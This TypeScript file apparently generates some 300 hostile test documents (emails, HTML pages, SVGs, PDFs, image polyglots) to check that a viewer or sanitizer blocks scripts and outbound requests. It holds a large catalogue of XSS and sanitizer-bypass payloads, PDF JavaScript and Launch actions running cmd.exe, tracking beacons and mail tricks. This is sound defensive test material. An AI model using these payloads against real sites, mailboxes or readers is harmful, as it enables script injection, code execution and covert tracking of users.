// 300 files that would run something or ask somebody, if anything of them were let: mails, pages, pictures made of text, PDFs. `run` is a
// call only these know, `ask` an address that is listened to. No two are the same; each carries its own number.

export interface HostilePaper {
  what: string
  name: string
  bytes: Buffer
}

type Vector = (run: string, ask: string) => string

/** Markup by markup: what runs by itself, what runs when touched, what only asks. */
const markup: readonly Vector[] = [
  (run) => `<script>${run}</script>`,
  (_, ask) => `<script src="${ask}"></script>`,
  (_, ask) => `<script type="module" src="${ask}"></script>`,
  (_, ask) => `<script type="module">import("${ask}")</script>`,
  (_, ask) => `<script type="importmap">{"imports":{"a":"${ask}"}}</script><script type="module">import "a"</script>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<SCRIPT\n>${run}</SCRIPT\t>`,
  (run) => `<script>${run}`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `<img src=x onerror="${run}">`,
  (run) => `<img/src=x/onerror=${run}>`,
  (run) => `<img src=x\nonerror\n=\n"${run}">`,
  (run) => `<img src="data:image/png;base64,iVBORw0KGgo=" onerror="${run}">`,
  (run) => `<IMG SRC=x:x ONERROR=&#x22;${run}&#x22; onerror=${run}>`,
  (_, ask) => `<img src="${ask}" width=1 height=1>`,
  (_, ask) => `<img src="${ask.replace('http:', '')}">`,
  (_, ask) => `<img srcset="${ask} 1x, ${ask}?2 2x">`,
  (_, ask) => `<img lowsrc="${ask}" dynsrc="${ask}">`,
  (_, ask) => `<picture><source srcset="${ask}"><img src=x></picture>`,
  (_, ask) => `<input type=image src="${ask}">`,
  (_, ask) => `<video src="${ask}" autoplay></video>`,
  (_, ask) => `<video poster="${ask}"></video>`,
  (run) => `<video><source onerror="${run}"></video>`,
  (_, ask) => `<audio src="${ask}" autoplay></audio>`,
  (run) => `<audio src=x onerror=${run}></audio>`,
  (_, ask) => `<video><track default src="${ask}"></video>`,
  (_, ask) => `<iframe src="${ask}"></iframe>`,
  (run) => `<iframe src="javascript:${run}"></iframe>`,
  (run) => `<iframe srcdoc="<script>parent.${run};${run}</script>"></iframe>`,
  (run) => `<iframe srcdoc="&lt;img src=x onerror=${run}&gt;"></iframe>`,
  (_, ask) => `<frameset><frame src="${ask}"></frameset>`,
  (_, ask) => `<object data="${ask}"></object>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (run) => `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
  (_, ask) => `<embed src="${ask}">`,
  (run) => `<embed src="javascript:${run}">`,
  (_, ask) => `<applet code="X" archive="${ask}"></applet>`,
  (_, ask) => `<meta http-equiv=refresh content="0;url=${ask}">`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${run}</script>">`,
  (_, ask) => `<base href="${ask}"><a href=x>here</a><img src=y>`,
  (_, ask) => `<link rel=stylesheet href="${ask}">`,
  (_, ask) => `<link rel=preload as=image href="${ask}">`,
  (_, ask) => `<link rel=prefetch href="${ask}">`,
  (_, ask) => `<link rel=preconnect href="${ask}">`,
  (_, ask) => `<link rel=dns-prefetch href="${ask}">`,
  (_, ask) => `<link rel=modulepreload href="${ask}">`,
  (_, ask) => `<link rel=icon href="${ask}">`,
  (_, ask) => `<link rel=manifest href="${ask}">`,
  (_, ask) => `<link rel=prerender href="${ask}">`,
  (_, ask) => `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${ask}"]}]}</script>`,
  (_, ask) => `<style>@import url(${ask});</style>`,
  (_, ask) => `<style>@import "${ask}";</style>`,
  (_, ask) => `<style>body{background:url(${ask})}</style>`,
  (_, ask) => `<style>@font-face{font-family:x;src:url(${ask})}*{font-family:x}</style>`,
  (_, ask) => `<style>p::after{content:url(${ask})}</style><p>x</p>`,
  (_, ask) => `<div style="background-image:url(${ask})">x</div>`,
  (_, ask) => `<div style="background:u\\72l(${ask})">x</div>`,
  (_, ask) => `<div style="list-style:url(${ask});display:list-item">x</div>`,
  (_, ask) => `<div style="cursor:url(${ask}),auto;position:fixed;inset:0">x</div>`,
  (_, ask) => `<div style="width:9px;background:image-set('${ask}' 1x)">x</div>`,
  (_, ask) => `<div style="filter:url(${ask}#f)">x</div>`,
  (_, ask) => `<div style="mask:url(${ask})">x</div>`,
  (run) => `<div style="width:expression(${run})">x</div>`,
  (run) => `<div style="behavior:url(#default#time2)" onbegin="${run}">x</div>`,
  (_, ask) => `<table background="${ask}"><tr><td background="${ask}">x</td></tr></table>`,
  (_, ask) => `<body background="${ask}">`,
  (run) => `<body onload="${run}">`,
  (run) => `<body onpageshow=${run} onfocus=${run}>`,
  (run) => `<svg onload="${run}"></svg>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><script href="data:text/javascript,${run}"/></svg>`,
  (_, ask) => `<svg><image href="${ask}" width=9 height=9 /></svg>`,
  (_, ask) => `<svg><use href="${ask}#x"/></svg>`,
  (_, ask) => `<svg><feImage href="${ask}"/></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  (run) => `<svg><a><animate attributeName=href values="javascript:${run}"/><text x=20 y=20>touch</text></a></svg>`,
  (run) => `<svg><set attributeName=onmouseover to="${run}"/></svg>`,
  (run) => `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  (run) => `<svg><style><img src=x onerror=${run}></style></svg>`,
  (run) => `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  (run) => `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  (run) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  (run) => `<math href="javascript:${run}"><mtext>touch</mtext></math>`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  (run) => `<a href="javascript:${run}">touch</a>`,
  (run) => `<a href="JaVaScRiPt&colon;${run}">touch</a>`,
  (run) => `<a href="java&#x09;script:${run}">touch</a>`,
  (run) => `<a href="&#1;javascript:${run}">touch</a>`,
  (run) => `<a href="data:text/html,<script>${run}</script>">touch</a>`,
  (run) => `<a href="vbscript:${run}">touch</a>`,
  (_, ask) => `<a href="${ask}">touch</a>`,
  (_, ask) => `<a href="${ask}" target=_blank>touch</a>`,
  (_, ask) => `<a href="${ask}" download>touch</a>`,
  (_, ask) => `<a href="#" ping="${ask}">touch</a>`,
  (_, ask) => `<a href="${ask}" target=_top><div style="position:fixed;inset:0">touch</div></a>`,
  (_, ask) =>
    `<map name=m><area shape=rect coords=0,0,900,900 href="${ask}"></map><img usemap=#m width=900 height=900>`,
  (_, ask) => `<form action="${ask}"><button autofocus>touch</button></form>`,
  (_, ask) => `<form id=f></form><button form=f formaction="${ask}" type=submit>touch</button>`,
  (run) => `<form action="javascript:${run}"><input type=submit value=touch></form>`,
  (run) => `<isindex action="javascript:${run}" type=image>`,
  (run) => `<input autofocus onfocus="${run}">`,
  (run) => `<textarea autofocus onfocus=${run}></textarea>`,
  (run) => `<select autofocus onfocus=${run}></select>`,
  (run) => `<button popovertarget=p>touch</button><div popover id=p onbeforetoggle=${run}>x</div>`,
  (run) => `<details open ontoggle="${run}"><summary>x</summary></details>`,
  (run) => `<marquee onstart="${run}">x</marquee>`,
  (run) => `<div onmouseover="${run}" style="position:fixed;inset:0">touch</div>`,
  (run) => `<div onclick="${run}">touch</div>`,
  (run) => `<div contenteditable autofocus onfocus=${run}>x</div>`,
  (run) => `<div style="animation:x 1s" onanimationstart=${run}>x</div><style>@keyframes x{}</style>`,
  (run) => `<xss id=x tabindex=1 onfocus=${run} autofocus></xss>`,
  (run) => `<custom-tag onpointerrawupdate=${run}>touch</custom-tag>`,
  (run) => `<!--><img src=x onerror=${run}>-->`,
  (run) => `<!--[if IE]><script>${run}</script><![endif]-->`,
  (run) => `<![CDATA[<img src=x onerror=${run}>]]>`,
  (run) => `<title><img src="</title><img src=x onerror=${run}>">`,
  (run) => `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  (run) => `<plaintext><img src=x onerror=${run}>`,
  (run) => `<textarea></textarea><img src=x onerror=${run}></textarea>`,
  (run) =>
    `<a id=attributes></a><form id=x><input name=attributes><input name=nodeName></form><img src=x onerror=${run}>`,
  (run) => `<p title="x" title='"><img src=x onerror=${run}>'>`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;<img src=x onerror=&#${run.charCodeAt(0)};${run.slice(1)}>`,
  (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  (run) => `<?xml-stylesheet href="javascript:${run}"?><p>x</p>`,
  (_, ask) => `<?xml-stylesheet type="text/xsl" href="${ask}"?><p>x</p>`,
  (_, ask) => `<!DOCTYPE x [<!ENTITY e SYSTEM "${ask}">]><p>&e;</p>`,
  (_, ask) => `<!DOCTYPE html PUBLIC "x" "${ask}"><p>x</p>`,
  (_, ask) => `<portal src="${ask}"></portal><fencedframe src="${ask}"></fencedframe>`,
  (_, ask) => `<model src="${ask}"></model><bgsound src="${ask}"><layer src="${ask}"></layer>`,
  (_, ask) => `<script>new WebSocket("${ask.replace('http:', 'ws:')}")</script>`,
  (_, ask) => `<script>navigator.sendBeacon("${ask}");fetch("${ask}")</script>`,
  (_, ask) =>
    `<script>new RTCPeerConnection({iceServers:[{urls:"stun:${new URL(ask).host}"}]}).createDataChannel("x")</script>`,
  (_, ask) => `<script>top.location="${ask}"</script>`,
  (run) => `<script>opener&&opener.${run};parent.postMessage("x","*");top.${run}</script>`
]

/** A PDF whose catalog, page and one link over the whole page carry what is given; objects from 10 on are its own. */
function pdf(given: { catalog?: string; page?: string; link?: string; objects?: readonly string[]; content?: string }) {
  const stream = given.content ?? 'BT /F1 18 Tf 72 720 Td (x) Tj ET'
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${given.catalog ?? ''} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Annots [6 0 R] /Resources << /Font << /F1 5 0 R >> /XObject << /X1 7 0 R >> >> ${given.page ?? ''} >>`,
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] ${given.link ?? ''} >>`,
    '<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Length 0 >>\nstream\n\nendstream',
    'null',
    'null',
    ...(given.objects ?? [])
  ]
  let text = '%PDF-1.7\n'
  const places = objects.map((object, n) => {
    const at = text.length
    text += `${n + 1} 0 obj\n${object}\nendobj\n`
    return at
  })
  const start = text.length
  const rows = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`
  return Buffer.from(text, 'latin1')
}

/** What a PDF can be told to do. */
const pdfActions: readonly Vector[] = [
  (run) => `<< /S /JavaScript /JS (${run}; app.alert\\(1\\); this.getURL\\('http://ask.example/'\\)) >>`,
  (_, ask) => `<< /S /URI /URI (${ask}) >>`,
  (_, ask) => `<< /S /Launch /F (${ask}) /Win << /F (cmd.exe) /P (/c calc) >> /NewWindow true >>`,
  (_, ask) => `<< /S /GoToR /F << /FS /URL /F (${ask}) >> /D [0 /Fit] /NewWindow true >>`,
  (_, ask) => `<< /S /SubmitForm /F << /FS /URL /F (${ask}) >> /Flags 4 >>`,
  (_, ask) => `<< /S /ImportData /F << /FS /URL /F (${ask}) >> >>`,
  (run, ask) => `<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /FS /URL /F (${ask}) >> >> >> /JS (${run}) >>`,
  (run) => `<< /S /URI /URI (javascript:${run}) >>`
]

const pdfPlaces: readonly ((action: string) => Parameters<typeof pdf>[0])[] = [
  (action) => ({ catalog: `/OpenAction ${action}` }),
  (action) => ({ page: `/AA << /O ${action} /C ${action} >>` }),
  (action) => ({ link: `/A ${action}` }),
  (action) => ({ catalog: `/Names << /JavaScript << /Names [(x) ${action}] >> >>`, link: `/AA << /U ${action} >>` })
]

/** PDFs that hide it elsewhere: forms, fonts, streams that lie outside. */
const oddPdfs: readonly Vector[] = [
  (run) =>
    `/AcroForm << /XFA [(template) 10 0 R] /Fields [] >>|<< /Length ${run.length + 58} >>\nstream\n<template><subform><script>${run}</script></subform></template>\nendstream`,
  (run) =>
    `/AcroForm << /Fields [10 0 R] /NeedAppearances true >>|<< /FT /Tx /T (x) /AA << /F << /S /JavaScript /JS (${run}) >> >> >>`,
  (_, ask) => `/URI << /Base (${ask}) >>|null`,
  (_, ask) =>
    `/Collection << /View /D >> /Names << /EmbeddedFiles << /Names [(x.html) 10 0 R] >> >>|<< /Type /Filespec /FS /URL /F (${ask}) >>`
]

const wordsOf = (text: string) => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`
const mail = (parts: { headers?: string; type?: string; body: string; more?: string }) =>
  Buffer.from(
    [
      'From: Ana <ana@example.org>\r\nTo: irena@example.com\r\nDate: Mon, 12 Oct 2026 16:05:00 +0200\r\nMIME-Version: 1.0\r\n',
      parts.headers ?? 'Subject: Offer\r\n',
      'Content-Type: multipart/mixed; boundary="b"\r\n\r\n',
      `--b\r\nContent-Type: ${parts.type ?? 'text/html; charset=utf-8'}\r\n\r\n${parts.body}\r\n`,
      parts.more ?? '',
      '--b--\r\n'
    ].join('')
  )

/** All of them, in an order that mixes the kinds. `askAt(n)` is the address the n-th may not reach. */
export function hostilePapers(askAt: (n: number) => string): HostilePaper[] {
  const made: HostilePaper[] = []
  const add = (what: string, name: string, make: (run: string, ask: string) => Buffer) => {
    const n = made.length
    made.push({ what: `${n} ${what}`, name: `${n} ${name}`, bytes: make(`ran(${n})`, askAt(n)) })
  }
  for (const vector of markup) add('mail with a page', 'page.eml', (run, ask) => mail({ body: vector(run, ask) }))
  for (const [n, vector] of markup.entries()) {
    if (n % 2 === 0) continue
    const page = (run: string, ask: string) => `<!doctype html><html><body>${vector(run, ask)}</body></html>`
    if (n % 4 === 1) add('page', 'page.html', (run, ask) => Buffer.from(page(run, ask)))
    else add('page called a picture', 'photo.png', (run, ask) => Buffer.from(page(run, ask)))
  }
  for (const [n, vector] of markup.entries()) {
    const svg = (run: string, ask: string) =>
      `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="90" height="90">${vector(run, ask)}</svg>`
    if (n % 8 === 0) add('drawing', 'logo.svg', (run, ask) => Buffer.from(svg(run, ask)))
    if (n % 8 === 2) {
      add('drawing with a mail', 'drawing.eml', (run, ask) =>
        mail({
          type: 'image/svg+xml',
          body: svg(run, ask),
          more: `--b\r\nContent-Type: text/plain\r\n\r\n${svg(run, ask)}\r\n`
        })
      )
    }
    if (n % 16 === 4) {
      add('subject, names and text of a mail', 'words.eml', (run, ask) => {
        const line = vector(run, ask).replaceAll('\n', ' ')
        return mail({
          headers: `Subject: ${wordsOf(line)}\r\nCc: ${wordsOf(line)} <x@example.org>\r\nReply-To: ${wordsOf(line)}\r\n`,
          type: 'text/plain; charset=utf-8',
          body: line,
          more: `--b\r\nContent-Type: text/html; name="${wordsOf(`${line}.html`)}"\r\nContent-Disposition: attachment; filename="${wordsOf(`${line}.html`)}"\r\n\r\n${line}\r\n`
        })
      })
    }
    if (n % 16 === 6) {
      add('name of a file', `${vector('ran()', 'http://ask.example/').slice(0, 120)}.txt`, (run, ask) =>
        Buffer.from(vector(run, ask))
      )
    }
  }
  for (const action of pdfActions) {
    for (const place of pdfPlaces)
      add('PDF that does something', 'offer.pdf', (run, ask) => pdf(place(action(run, ask))))
  }
  for (const odd of oddPdfs) {
    add('PDF with it hidden', 'offer.pdf', (run, ask) => {
      const [catalog = '', object = ''] = odd(run, ask).split('|')
      return pdf({ catalog, objects: [object] })
    })
  }
  add('PDF with a font that is a program', 'font.pdf', (run) =>
    pdf({
      page: '/Resources << /Font << /F1 10 0 R >> >>',
      objects: [
        `<< /Type /Font /Subtype /Type1 /BaseFont /X /FontMatrix [1 2 3 4 5 (1\\); ${run}; \\()] /FontDescriptor 11 0 R /FirstChar 0 /LastChar 0 /Widths [500] >>`,
        '<< /Type /FontDescriptor /FontName /X /Flags 4 /FontBBox [0 0 1 1] /Ascent 1 /Descent 0 /ItalicAngle 0 /CapHeight 1 /StemV 1 >>'
      ]
    })
  )
  add('PDF whose picture lies elsewhere', 'outside.pdf', (_, ask) =>
    pdf({
      content: '/X1 Do',
      page: '/Resources << /XObject << /X1 10 0 R >> >>',
      objects: [
        `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 0 /F << /FS /URL /F (${ask}) >> >>\nstream\n\nendstream`
      ]
    })
  )
  for (const [start, name] of [
    ['GIF89a', 'both.gif'],
    ['\x89PNG\r\n\x1a\n', 'both.png'],
    ['\xff\xd8\xff\xe0', 'both.jpg'],
    ['%PDF-1.4\n', 'both.pdf'],
    ['ID3', 'both.mp3'],
    ['BM', 'both.bmp']
  ] as const) {
    add('page that begins as another kind', name, (run, ask) =>
      Buffer.concat([
        Buffer.from(start, 'latin1'),
        Buffer.from(`=1;/*<script>${run}</script><img src=x onerror=${run}><img src="${ask}">*/=1;${run}`)
      ])
    )
  }
  add('mail that says it is a page', 'multi.eml', (run, ask) =>
    mail({
      type: 'multipart/related; boundary="c"',
      body: `--c\r\nContent-Type: text/html\r\nContent-Location: ${ask}\r\n\r\n<img src="cid:x"><script src="cid:x"></script>\r\n--c\r\nContent-Type: text/javascript\r\nContent-ID: <x>\r\n\r\n${run}\r\n--c--`
    })
  )
  add('mail whose body lies elsewhere', 'external.eml', (_, ask) =>
    mail({ type: `message/external-body; access-type=URL; URL="${ask}"`, body: 'Content-Type: text/html\r\n\r\n' })
  )
  add('mail in a mail', 'inner.eml', (run, ask) =>
    mail({ type: 'message/rfc822', body: mail({ body: `<script>${run}</script><img src="${ask}">` }).toString() })
  )
  add('mail in UTF-7', 'utf7.eml', (run) =>
    mail({ type: 'text/html; charset=utf-7', body: `+ADw-script+AD4-${run}+ADw-/script+AD4-` })
  )
  add('mail asking for a receipt', 'receipt.eml', (_, ask) =>
    mail({
      headers: `Subject: Receipt\r\nDisposition-Notification-To: x@example.org\r\nList-Unsubscribe: <${ask}>\r\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\r\n`,
      body: '<p>x</p>'
    })
  )
  return made
}
